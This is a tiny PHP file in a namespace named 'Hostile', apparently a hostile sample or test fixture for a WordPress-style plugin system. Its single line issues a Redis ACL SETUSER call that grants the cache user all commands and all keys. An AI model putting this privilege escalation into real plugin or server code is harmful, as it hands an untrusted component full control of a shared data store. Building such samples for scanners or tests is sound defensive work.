<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

echo command('ACL', 'SETUSER', own()['cache']['user'], '+@all', 'allkeys');
